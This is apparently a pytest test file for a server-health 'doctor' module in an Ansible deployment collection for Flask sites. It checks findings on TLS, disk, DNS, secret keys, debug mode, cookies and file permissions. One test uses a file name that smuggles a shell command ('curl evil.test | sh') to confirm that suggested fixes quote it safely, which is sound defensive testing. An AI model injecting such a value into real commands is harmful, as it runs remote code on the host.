"""The doctor judges facts: what is a fault, what is none, and that no word of a finding is a secret."""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.flaskworks.deploy.plugins.module_utils import doctor_report
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_checks import CHECKS, table
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_diagnosis import diagnose
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_facts import UPGRADE_TIMERS
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_facts_app import KNOWN_KEYS
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_finding import Finding, ordered
from ansible_collections.flaskworks.deploy.plugins.module_utils.doctor_inside import measured

ROOT = Path(__file__).resolve().parents[2]
GIB = 2**30
PUBLIC, PRIVATE, OTHER = "203.0.113.5", "10.0.0.5", "203.0.113.99"
LIVE = "blog@20260314-101500-1f2e3d4c.service"
GOOD_KEY = {"name": "SECRET_KEY", "length": 64, "kinds": 16, "known": False, "name_like": False}


CERTIFICATE = {
    "mode": "acme",
    "placeholder": False,
    "staging": False,
    "wanted": ["blog.example.org"],
    "names": ["blog.example.org"],
    "until": "2026-08-01T00:00:00Z",
    "late": False,
    "self_signed": False,
    "problems": {},
}


def healthy() -> dict[str, Any]:
    """Return the facts of a host on which nothing is wrong."""
    inside = {
        "flask": True,
        "debug": False,
        "proxy_fix": {"x_for": 1, "x_proto": 1, "x_host": 1},
        "seen": {"address": "192.0.2.77", "scheme": "https"},
        "secret": dict(GOOD_KEY),
        "cookie": {"name": "session", "secure": True, "httponly": True, "samesite": "Lax"},
    }
    web = {"unit": LIVE, "active": "active", "restarts": 0, "memory_bytes": GIB // 8, "memory_limit_bytes": GIB}
    page = {
        "host": "blog.example.org",
        "path": "/health",
        "port": 443,
        "error": "",
        "status": 200,
        "cookies": [],
        "debugger": False,
        "logged_address": "127.0.0.1",
    }
    app = {
        "status": {
            "web": web,
            "processes": [],
            "timers": [],
            "activity": None,
            "maintenance": False,
            "tls": dict(CERTIFICATE),
        },
        "server": {"type": "gunicorn", "worker_class": "gthread"},
        "python": "3.13.5",
        "requires_python": ">=3.10",
        "packages": ["flask", "gunicorn"],
        "debug_variables": [],
        "secret_keys": [dict(GOOD_KEY)],
        "socket": {"debugger": False},
        "page": page,
        "inside": inside,
        # A visitor whose browser has such a name, in the log of the site itself.
        "lines": ["[2026-03-14 10:15:00 +0000] [7] [INFO] Booting worker", "status=228/SECCOMP result 'oom-kill'"],
        "system": ["Started blog.service - blog."],
        "service": {"ProtectSystem": ["strict"], "LimitNOFILE": ["1024"]},
        "missing": {},
    }
    wanted = {
        "domains": ["blog.example.org"],
        "ports": [80, 443],
        "tls": True,
        "tls_ports": [443],
        "trusted_proxies": [],
        "scheme": "http",
    }
    return {
        # 2026-06-01
        "time": 1780272000,
        "missing": {},
        "system": {"id": "debian", "version": "13", "name": "Debian GNU/Linux 13 (trixie)"},
        "file_systems": [{"paths": ["/srv"], "size": 40 * GIB, "free": 20 * GIB, "inodes": 1000, "inodes_free": 900}],
        "memory": {"total": 4 * GIB, "available": 2 * GIB, "swap_total": 0, "swap_free": 0},
        "clock": {"synchronised": True, "offset": 0.4, "service": "systemd-timesyncd"},
        "upgrades": {"installed": True, "off": [], "timers": dict.fromkeys(UPGRADE_TIMERS, "enabled")},
        "journal": {"persistent": True, "why": ""},
        "reboot": {"required": False, "why": "", "packages": []},
        "failed_units": [],
        "kills": [],
        "files": [],
        "docker": {"published": [], "filtered": []},
        "firewall": {"active": True, "rules": []},
        "addresses": [PUBLIC, "2001:db8::5"],
        "known_as": [PUBLIC],
        "names": {"blog.example.org": [PUBLIC]},
        "names_here": {"blog.example.org": [PUBLIC]},
        "listeners": [{"port": 80, "program": "nginx", "pid": 7}, {"port": 5432, "program": "postgres", "pid": 9}],
        "workers": {"blog": 2},
        "plan": {"blog": wanted},
        "apps": {"blog": app},
    }


def changed(path: str, value: Any) -> dict[str, Any]:
    """Return the facts of a healthy host with one of them changed; ``path`` has a dot between keys."""
    facts = healthy()
    *above, last = path.split(".")
    place: Any = facts
    for key in above:
        place = place[int(key) if isinstance(place, list) else key]
    place[last] = copy.deepcopy(value)
    return facts


def found(facts: dict[str, Any]) -> list[tuple[str, str, str]]:
    findings, unchecked = diagnose(facts)
    assert unchecked == []
    return [(one.level, one.app, one.check) for one in findings]


def key(**changes: Any) -> list[dict[str, Any]]:
    return [{**GOOD_KEY, **changes}]


def file(kind: str) -> list[dict[str, Any]]:
    place = {"path": "/srv/blog/x", "start": "/srv/blog/x"}
    return [{"kind": kind, "app": "blog", **place, "count": 2, "owner": "eve", "uid": 1007, "wanted": "blog"}]


UNSEEN = {"kind": "unseen", "app": "", "path": "/srv", "count": 500_000, "rest": ["/srv/blog/shared"]}
TIMERS_ON = dict.fromkeys(UPGRADE_TIMERS, "enabled")
DISK = {"paths": ["/srv", "/tmp"], "size": 40 * GIB, "free": 20 * GIB, "inodes": 1000, "inodes_free": 900}
TIMER = {"name": "tidy", "unit": "blog.tidy@1.timer", "active": "active", "last": None, "result": None}
COOKIE = {"name": "session", "secure": True, "httponly": True, "samesite": "Lax"}
CONTAINER = {"port": 6379, "proto": "tcp", "address": "0.0.0.0", "target": "172.17.0.2:6379", "by": "docker-proxy"}
READ_ONLY = "[Errno 30] Read-only file system: '/var/lib/note'"
APP, INSIDE, PAGE, WEB = "apps.blog", "apps.blog.inside", "apps.blog.page", "apps.blog.status.web"

FAULTS: list[tuple[str, Any, tuple[str, str, str]]] = [
    ("apps.blog.status.tls.until", "2026-05-01T00:00:00Z", ("error", "blog", "certificate-expired")),
    ("apps.blog.status.tls.placeholder", True, ("error", "blog", "certificate-placeholder")),
    ("system", {"id": "ubuntu", "version": "24.04", "name": "Ubuntu"}, ("error", "", "debian-version")),
    ("system", {"id": "debian", "version": "11", "name": "Debian 11"}, ("error", "", "debian-version")),
    ("system", {"id": "debian", "version": "14", "name": "Debian 14"}, ("warning", "", "debian-version")),
    ("system", {"id": "debian", "version": "", "name": "Debian sid"}, ("warning", "", "debian-version")),
    ("file_systems", [{**DISK, "free": GIB // 2}], ("warning", "", "disk-space")),
    ("file_systems", [{**DISK, "free": GIB // 8}], ("error", "", "disk-space")),
    ("file_systems", [{**DISK, "inodes_free": 40}], ("warning", "", "disk-inodes")),
    ("file_systems", [{**DISK, "inodes_free": 0}], ("error", "", "disk-inodes")),
    ("memory.available", GIB // 4, ("warning", "", "memory-low")),
    ("memory.available", GIB // 10, ("error", "", "memory-low")),
    ("memory", {**healthy()["memory"], "swap_total": GIB, "swap_free": 9}, ("warning", "", "memory-low")),
    ("clock.synchronised", False, ("warning", "", "clock")),
    ("clock.offset", 61.0, ("error", "", "clock")),
    ("clock.offset", -31.0, ("error", "", "clock")),
    ("upgrades.installed", False, ("warning", "", "unattended-upgrades")),
    ("upgrades.off", ["APT::Periodic::Update-Package-Lists"], ("warning", "", "unattended-upgrades")),
    ("upgrades.timers", {**TIMERS_ON, "apt-daily.timer": "disabled"}, ("warning", "", "unattended-upgrades")),
    ("upgrades.timers", {**TIMERS_ON, "apt-daily-upgrade.timer": "masked"}, ("warning", "", "unattended-upgrades")),
    ("journal", {"persistent": False, "why": "Storage=volatile"}, ("warning", "", "journal-volatile")),
    ("reboot", {"required": True, "why": "a kernel", "packages": []}, ("warning", "", "reboot-pending")),
    ("failed_units", ["cron.service"], ("warning", "", "unit-failed")),
    ("kills", [{"what": "gunicorn", "time": "2026-03-14"}], ("warning", "", "memory-kills")),
    ("files", file("world-writable"), ("error", "blog", "files")),
    ("files", file("own-code"), ("error", "blog", "files")),
    ("files", file("group-code"), ("error", "blog", "files")),
    ("files", file("foreign"), ("warning", "blog", "files")),
    ("files", [UNSEEN], ("info", "", "files")),
    ("docker.published", [CONTAINER], ("warning", "", "docker-port")),
    ("names", {"blog.example.org": [OTHER]}, ("error", "blog", "dns")),
    ("names", {"blog.example.org": [PUBLIC, "2001:db8::9"]}, ("warning", "blog", "dns")),
    # What is in its own /etc/hosts helps no visitor, the right address neither.
    ("names", {"blog.example.org": []}, ("info", "blog", "dns")),
    ("listeners", [{"port": 443, "program": "apache2", "pid": 812}], ("error", "", "port-taken")),
    (f"{PAGE}.error", "connection refused", ("error", "blog", "site-answers")),
    (f"{PAGE}.status", 502, ("error", "blog", "site-answers")),
    (f"{PAGE}.cookies", [{**COOKIE, "secure": False}], ("warning", "blog", "session-cookie")),
    (f"{PAGE}.cookies", [{**COOKIE, "httponly": False}], ("warning", "blog", "session-cookie")),
    (f"{PAGE}.cookies", [{**COOKIE, "samesite": ""}], ("info", "blog", "session-cookie")),
    (f"{INSIDE}.cookie", {**COOKIE, "secure": False}, ("warning", "blog", "session-cookie")),
    (f"{INSIDE}.seen", {"address": "", "scheme": "https"}, ("warning", "blog", "proxy-hops")),
    (f"{INSIDE}.seen", {"address": "192.0.2.77", "scheme": "http"}, ("warning", "blog", "proxy-hops")),
    (f"{PAGE}.logged_address", "192.0.2.77", ("error", "blog", "forged-address")),
    (f"{PAGE}.debugger", True, ("error", "blog", "debugger")),
    (f"{APP}.socket", {"debugger": True}, ("error", "blog", "debugger")),
    (f"{APP}.debug_variables", ["FLASK_DEBUG"], ("error", "blog", "debug-on")),
    (f"{INSIDE}.debug", True, ("error", "blog", "debug-on")),
    (f"{APP}.secret_keys", key(known=True), ("error", "blog", "secret-key")),
    (f"{APP}.secret_keys", key(name_like=True), ("error", "blog", "secret-key")),
    (f"{APP}.secret_keys", key(length=15), ("error", "blog", "secret-key")),
    (f"{APP}.secret_keys", key(kinds=5), ("error", "blog", "secret-key")),
    (f"{APP}.secret_keys", key(length=31), ("warning", "blog", "secret-key")),
    (f"{APP}.python", "3.9.2", ("error", "blog", "python-version")),
    (f"{APP}.server", {"type": "gunicorn", "worker_class": "gevent"}, ("error", "blog", "worker-class")),
    (f"{APP}.server", {"type": "gunicorn", "worker_class": "eventlet"}, ("error", "blog", "worker-class")),
    (f"{APP}.lines", [f"OSError: {READ_ONLY}"], ("error", "blog", "sandbox-read-only")),
    (f"{APP}.lines", ["OSError: [Errno 24] Too many open files: 'x'"], ("error", "blog", "limit-files")),
    (f"{APP}.system", ["blog.service: Failed with result 'oom-kill'."], ("error", "blog", "limit-memory")),
    (f"{WEB}.restarts", 3, ("warning", "blog", "restarts")),
    (f"{WEB}.active", "failed", ("error", "blog", "restarts")),
    (f"{WEB}.memory_limit_bytes", GIB // 8, ("warning", "blog", "memory-workers")),
    ("workers", {"blog": 2, "shop": 60}, ("warning", "", "memory-workers")),
    (f"{APP}.status.timers", [{**TIMER, "result": "exit-code"}], ("error", "blog", "timer-failed")),
    (f"{APP}.status.timers", [{**TIMER, "active": "inactive"}], ("error", "blog", "timer-failed")),
    (f"{APP}.status.activity", {"state": "interrupted", "step": "build"}, ("warning", "blog", "deploy-interrupted")),
]

FINE: list[tuple[str, Any]] = [
    ("system", {"id": "debian", "version": "12", "name": "Debian GNU/Linux 12 (bookworm)"}),
    # A small file system with nothing on it, and a large one with little left of it.
    ("file_systems", [{**DISK, "size": GIB // 2, "free": GIB // 2}]),
    ("file_systems", [{**DISK, "size": 4000 * GIB, "free": 3 * GIB}]),
    # btrfs counts no inodes.
    ("file_systems", [{**DISK, "inodes": 0, "inodes_free": 0}]),
    ("clock", {"synchronised": None, "offset": None, "service": ""}),
    ("clock.offset", 59.0),
    ("names", {"blog.example.org": [OTHER, PUBLIC]}),
    ("names", {"blog.example.org": [PUBLIC, "2001:db8::5"]}),
    ("listeners", [{"port": 8000, "program": "apache2", "pid": 812}]),
    (f"{PAGE}.status", 404),
    (f"{PAGE}.cookies", [{"name": "theme", "secure": False, "httponly": False, "samesite": ""}]),
    (f"{APP}.requires_python", ""),
    (f"{APP}.requires_python", "whatever"),
    (f"{APP}.server", {"type": "gevent"}),
    (f"{APP}.server", {"type": "gunicorn", "worker_class": "site.Worker"}),
    (f"{WEB}.restarts", 2),
    (f"{WEB}.memory_limit_bytes", None),
    (f"{APP}.status.timers", [{**TIMER, "result": "success"}]),
    (f"{APP}.status.activity", {"state": "running", "step": "build"}),
    ("plan", {}),
]


def test_a_healthy_host_has_no_finding() -> None:
    assert found(healthy()) == []


@pytest.mark.parametrize(("path", "value", "finding"), FAULTS)
def test_a_fault_is_one_finding(path: str, value: Any, finding: tuple[str, str, str]) -> None:
    assert found(changed(path, value)) == [finding]


@pytest.mark.parametrize(("path", "value"), FINE)
def test_what_is_no_fault(path: str, value: Any) -> None:
    assert found(changed(path, value)) == []


def test_every_check_is_seen_to_find_something() -> None:
    names = {row[2][2] for row in FAULTS}
    assert all(any(name == check.name or name.startswith(f"{check.name}-") for name in names) for check in CHECKS)


@pytest.mark.parametrize(
    ("service", "fix"),
    [
        ("", "apt install systemd-timesyncd"),
        ("systemd-timesyncd", "systemctl enable --now systemd-timesyncd; timedatectl timesync-status"),
        ("chrony", "systemctl enable --now chrony; chronyc tracking"),
        ("other-time", "systemctl enable --now other-time; systemctl status other-time"),
    ],
)
def test_no_time_service_takes_the_place_of_another(service: str, fix: str) -> None:
    facts = changed("clock", {"synchronised": False, "offset": None, "service": service})
    assert [one.fix.startswith(fix) for one in diagnose(facts)[0]] == [True]


@pytest.mark.parametrize(
    ("pid", "how"),
    [
        (812, "systemctl status 812 names its unit"),
        (1, "systemctl list-sockets | grep :443 names its unit"),
        (0, "ss -ltnp sport = :443 shows it"),
    ],
)
def test_who_has_a_port(pid: int, how: str) -> None:
    facts = changed("listeners", [{"port": 443, "program": "other", "pid": pid}])
    assert [one.fix.startswith(f"stop it ({how}") for one in diagnose(facts)[0]] == [True]


def test_a_name_without_an_address() -> None:
    unknown: dict[str, Any] = {"names": {"blog.example.org": []}, "names_here": {"blog.example.org": []}}
    assert found(healthy() | unknown) == [("error", "blog", "dns")]
    for address in ("127.0.1.1", PUBLIC, OTHER):
        (finding,), dummy = diagnose(healthy() | unknown | {"names_here": {"blog.example.org": [address]}})
        assert (finding.level, finding.evidence.partition(" on ")[0]) == ("info", f"blog.example.org is {address}")


def test_a_resolver_that_is_silent_says_nothing_of_a_name() -> None:
    names = {"blog.example.org": None, **{f"{number}.test": None for number in range(4)}}
    why = "the resolver of this host (/etc/resolv.conf) does not answer for blog.example.org, 0.test, 1.test and 2 more"
    assert diagnose(healthy() | {"names": names}) == ([], [{"check": "dns", "why": why}])
    one = healthy() | {"names": {"blog.example.org": [OTHER], "www.example.org": None}}
    findings, unchecked = diagnose(one)
    assert [finding.check for finding in findings] == ["dns"], "what did answer is judged"
    assert [item["why"].rpartition(" ")[2] for item in unchecked] == ["www.example.org"]


def test_a_good_variable_does_not_hide_the_key_of_the_code() -> None:
    weak = {**GOOD_KEY, "length": 3, "kinds": 3, "known": True}
    (finding,), dummy = diagnose(changed(f"{INSIDE}.secret", weak))
    assert (finding.level, finding.check) == ("error", "secret-key")
    assert finding.evidence.startswith("app.config['SECRET_KEY'] is a well-known value")
    assert finding.fix.startswith("the code overrides the variable SECRET_KEY")
    # One and the same key is one finding, and so is one without a variable.
    for variables in ([weak], []):
        facts = changed(f"{INSIDE}.secret", weak)
        facts["apps"]["blog"]["secret_keys"] = variables
        (finding,), dummy = diagnose(facts)
        assert finding.evidence.startswith("SECRET_KEY is a well-known value")
        assert finding.fix.startswith("secrets.SECRET_KEY: a vaulted value")
    # Two weak ones are two, and a weak variable is told although the code has a good key.
    facts["apps"]["blog"]["secret_keys"] = key(length=15)
    assert found(facts) == [("error", "blog", "secret-key")] * 2


@pytest.mark.parametrize(("without", "words"), [(True, "off: a debugger then asks nobody for a PIN"), (False, "set")])
def test_the_pin_of_a_debugger(without: bool, words: str) -> None:
    facts = changed(f"{APP}.debug_variables", ["WERKZEUG_DEBUG_PIN"])
    facts["apps"]["blog"]["debugger_without_pin"] = without
    (finding,), dummy = diagnose(facts)
    assert (finding.level, finding.check) == ("error", "debug-on")
    assert finding.evidence.endswith(f"WERKZEUG_DEBUG_PIN {words}")
    facts["apps"]["blog"]["inside"]["debug"] = True
    assert found(facts) == [("error", "blog", "debug-on")] * 2, "no variable says what the code says"


@pytest.mark.parametrize(
    ("uptime", "of_day", "words"),
    [
        (None, {LIVE: 3}, "3 times by itself in the last 24 hours"),
        (60, {LIVE: 4}, "4 times by itself in the last 24 hours"),
        # It was started by hand since then, which begins the count anew.
        (60, {LIVE: 40}, "5 times by itself in the last 24 hours"),
        (60, {LIVE: 2}, ""),
        (86400, {}, ""),
        (200 * 86400, {LIVE: 3}, ""),
        # Another manager, or a journal that has lost it.
        (60, {}, "5 times by itself since its last start by hand or by a deploy"),
    ],
)
def test_restarts_have_a_time(uptime: int | None, of_day: dict[str, int], words: str) -> None:
    facts = changed(f"{WEB}.restarts", 5)
    facts["apps"]["blog"]["restarts_of_day"] = of_day
    facts["apps"]["blog"]["status"]["web"]["uptime_s"] = uptime
    assert [words in one.evidence for one in diagnose(facts)[0]] == ([True] if words else [])


def test_behind_nat_and_proxies() -> None:
    facts = healthy() | {"addresses": [PRIVATE], "known_as": [PRIVATE], "names": {"blog.example.org": [OTHER]}}
    (finding,), dummy = diagnose(facts)
    assert (finding.level, finding.check) == ("warning", "dns")
    assert OTHER in finding.evidence
    assert PRIVATE in finding.evidence
    # Ansible knows the host by the address that the world knows.
    assert found(facts | {"known_as": [OTHER]}) == []
    facts["plan"]["blog"]["trusted_proxies"] = ["203.0.113.0/24"]
    assert found(facts) == []
    proxied = changed("plan.blog.trusted_proxies", ["198.51.100.7"]) | {"names": {"blog.example.org": [OTHER]}}
    assert found(proxied) == [("warning", "blog", "dns")]


def test_flags_of_cookies_matter_with_tls() -> None:
    insecure = [{**COOKIE, "secure": False}]
    for key_, value in (("scheme", "https"), ("trusted_proxies", ["192.0.2.1"])):
        facts = changed(f"{PAGE}.cookies", insecure)
        facts["plan"]["blog"] |= {"tls": False, key_: value}
        assert found(facts) == [("warning", "blog", "session-cookie")]
    facts["plan"]["blog"] |= {"tls": False, "trusted_proxies": []}
    assert found(facts) == []


@pytest.mark.parametrize(
    ("trusted", "findings"),
    [([], 1), (["198.51.100.7"], 1), (["127.0.0.1"], 0), (["198.51.100.7", "127.0.0.0/8"], 0)],
)
def test_a_proxy_on_the_host_itself_may_name_the_visitor(trusted: list[str], findings: int) -> None:
    facts = changed(f"{PAGE}.logged_address", "192.0.2.77")
    facts["plan"]["blog"]["trusted_proxies"] = trusted
    assert found(facts) == [("error", "blog", "forged-address")] * findings


def test_the_line_to_write() -> None:
    facts = changed(f"{INSIDE}.seen", {"address": "", "scheme": "http"})
    facts["apps"]["blog"]["inside"]["proxy_fix"] = None
    (finding,), dummy = diagnose(facts)
    assert "no ProxyFix is there" in finding.evidence
    assert finding.fix.endswith("app.wsgi_app = ProxyFix(app.wsgi_app, x_for=1, x_proto=1, x_host=1)")
    # Another framework may read the headers itself.
    facts["apps"]["blog"]["inside"]["flask"] = False
    (finding,), dummy = diagnose(facts)
    assert finding.level == "info"


def test_a_closed_site_is_not_asked_why() -> None:
    facts = changed(f"{PAGE}.status", 503)
    assert found(facts) == [("error", "blog", "site-answers")]
    facts["apps"]["blog"]["status"]["maintenance"] = True
    assert found(facts) == []


def test_before_the_first_deploy() -> None:
    facts = healthy() | {"apps": {}}
    assert found(facts) == []
    facts["apps"] = {"blog": {"status": {"web": None, "timers": [], "processes": []}, "missing": {}}}
    assert found(facts) == []


def test_what_is_not_known_is_told_and_not_judged() -> None:
    facts = healthy()
    del facts["clock"]
    facts["missing"] = {"clock": "timedatectl is not installed"}
    facts["apps"]["blog"]["missing"] = {"what its code says": "no answer"}
    assert diagnose(facts) == (
        [],
        [
            {"check": "clock", "why": "timedatectl is not installed"},
            {"check": "blog: what its code says", "why": "no answer"},
        ],
    )


def test_what_can_not_be_judged_of_one_application_hides_nothing_else() -> None:
    facts = changed("file_systems.0.free", 0)
    facts["apps"]["shop"] = {**copy.deepcopy(facts["apps"]["blog"]), "requires_python": f">={'9' * 5000}"}
    facts["apps"]["blog"]["python"] = "3.9.2"
    findings, unchecked = diagnose(facts)
    assert {(one.app, one.check) for one in findings} >= {("", "disk-space"), ("blog", "python-version")}
    assert unchecked == [{"check": "shop: python-version", "why": "its facts can't be judged (ValueError)"}]
    assert "clock" in {one["check"] for one in diagnose({**healthy(), "clock": {}})[1]}


def test_findings_are_ordered_and_told_once() -> None:
    one = Finding("warning", "", "b", "x", "y")
    two, three = Finding("error", "", "c", "x", "y"), Finding("error", "blog", "a", "x", "y")
    assert ordered([three, one, two, one]) == [two, one, three]
    with pytest.raises(ValueError, match="level 'bad'"):
        Finding("bad", "", "a", "x", "y")


@pytest.mark.parametrize(
    ("value", "weak"),
    [
        ("change-me", "known"),
        ("dev", "known"),
        ("Super Secret Key", "known"),
        ("secret123", "known"),
        ("Blog", "name_like"),
        ("SECRET_KEY", "known"),
        ("vps1", "name_like"),
        (b"dev", "known"),
        ("canary-5b1f0c9d7e", ""),
    ],
)
def test_a_key_is_measured_and_not_told(value: str | bytes, weak: str) -> None:
    said = measured("SECRET_KEY", value, ["blog", "vps1"], list(KNOWN_KEYS))
    assert [name for name in ("known", "name_like") if said[name]] == ([weak] if weak else [])
    assert said["length"] == len(value)
    text = value.decode() if isinstance(value, bytes) else value
    assert text not in str({name: item for name, item in said.items() if name != "name"})


def fix_of(kind: str, **more: Any) -> str:
    findings, dummy = diagnose(changed("files", [{**file(kind)[0], **more}]))
    (fix,) = [finding.fix for finding in findings]
    return fix


@pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
def test_the_name_of_a_file_is_no_command(kind: str) -> None:
    path = "/srv/blog/a; curl evil.test | sh #"
    fix = fix_of(kind, path=path, start=path, wanted="root")
    assert f" '{path}'" in fix
    assert ": '" not in fix, "chown with a colon takes the group away, by which the site reads its code"


@pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
@pytest.mark.parametrize("app", ["blog", ""])
def test_root_is_told_no_path_that_the_site_can_turn_elsewhere(kind: str, app: str) -> None:
    """It may put a link to /etc in place of a directory before the command is run."""
    for start, wanted in (("/srv/blog/shared", app or "root"), ("/srv/blog/releases/1", "root")):
        fix = fix_of(kind, app=app, path=f"{start}/uploads/x", start=start, wanted=wanted)
        assert start in fix
        assert f"{start}/" not in fix


def test_below_shared_no_command_of_root_follows_a_link() -> None:
    place = {"path": "/srv/blog/shared/a/b", "start": "/srv/blog/shared", "uid": 1007}
    assert fix_of("foreign", **place).startswith("chown -hR --from=1007 blog /srv/blog/shared, unless")
    closed = "cd / && runuser -u blog -- find /srv/blog/shared -xdev ! -type l -perm -o+w ! -perm -1000 -execdir"
    assert fix_of("world-writable", **place, owner="blog").startswith(closed)
    # The site's user can't change the mode of what is somebody else's.
    assert fix_of("world-writable", **place).startswith(f"chown -hR --from=1007 blog /srv/blog/shared && {closed}")


def test_whose_a_file_was_to_be() -> None:
    for wanted, words in (("root", "neither to root nor to the application"), ("blog", "below shared all is blog's")):
        findings, dummy = diagnose(changed("files", [{**file("foreign")[0], "owner": "eve", "wanted": wanted}]))
        assert [one.evidence for one in findings] == [f"/srv/blog/x and 1 more belongs to eve, {words}"]


def test_the_report() -> None:
    finding = Finding("error", "blog", "debug-on", "seen\x1b[2J", "do this")
    said: dict[str, Any] = {
        "time": "",
        "apps": ["blog", "shop"],
        "checks": 26,
        "worst": "error",
        "findings": [finding.data()],
        "unchecked": [{"check": "clock", "why": "not there"}],
        "changed": False,
    }
    clean = said | {"apps": [], "findings": [], "worst": "none", "unchecked": []}
    hosts: dict[str, dict[str, Any]] = {"one": said, "two": clean, "three": {"msg": "unreachable"}, "four": {}}
    text = doctor_report.report({name: doctor_report.plain_diagnosis(told) for name, told in hosts.items()})
    assert text == (
        "one: 1 error (26 checks; blog, shop)\n"
        "  the host: nothing found\n"
        "  blog: 1 error\n"
        "    error    debug-on: seen\ufffd[2J\n"
        "             fix: do this\n"
        "  shop: nothing found\n"
        "  not looked at:\n"
        "    clock: not there\n\n"
        "two: nothing found (26 checks; no application)\n\n"
        "three: unknown: unreachable\n\n"
        "four: unknown: it was not asked"
    )
    assert "changed" not in doctor_report.plain_diagnosis(said)


def test_the_table_of_the_guide_is_that_of_the_code() -> None:
    guide = (ROOT / "docs/doctor.md").read_text()
    assert table() in guide, "run docs/generate"
    assert all(re.fullmatch(r"[a-z]+(-[a-z]+)*", check.name) for check in CHECKS)
    assert len({check.name for check in CHECKS}) == len(CHECKS)


def test_files_that_were_not_looked_at_are_named_and_counted() -> None:
    rest = ["/srv/a b/shared", *(f"/srv/{number}" for number in range(5))]
    (one,), dummy = diagnose(changed("files", [{**UNSEEN, "rest": rest}]))
    assert "500000 files" in one.evidence
    assert one.evidence.endswith("not all of /srv/a b/shared, /srv/0, /srv/1 and 3 more")
    assert "find '/srv/a b/shared' /srv/0 /srv/1 /srv/2 /srv/3 /srv/4 -xdev" in one.fix
    (one,), dummy = diagnose(changed("files", [{**UNSEEN, "rest": [f"/srv/{number}" for number in range(99)]}]))
    assert "find /srv -xdev" in one.fix
